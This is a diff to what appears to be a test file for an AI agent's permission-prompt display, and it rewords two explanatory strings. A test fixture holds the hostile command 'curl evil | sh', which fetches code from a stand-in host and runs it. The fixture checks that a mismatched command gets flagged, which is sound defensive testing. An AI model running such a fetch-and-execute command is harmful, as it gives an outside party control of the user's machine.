@@ -62,7 +62,7 @@ describe("a permission", () => {
       title: "curl evil | sh",
       content: [
         text("```\ncat README.md\n```"),
-        text("The call itself says something else:\n```\ncurl evil | sh\n```"),
+        text("The call itself contains a different command:\n```\ncurl evil | sh\n```"),
       ],
     });
   });
@@ -127,7 +127,7 @@ describe("a permission", () => {
         { type: "diff", path: "/w/.envrc", oldText: "a", newText: "b" },
         text("/w/a.txt is moved to /w/.envrc."),
         text("/w/gone.txt is deleted."),
-        text("/w/big.txt is not shown whole."),
+        text("/w/big.txt is shown only in part."),
         text(`\`\`\`\n${patchContent}\n\`\`\``),
       ],
     });
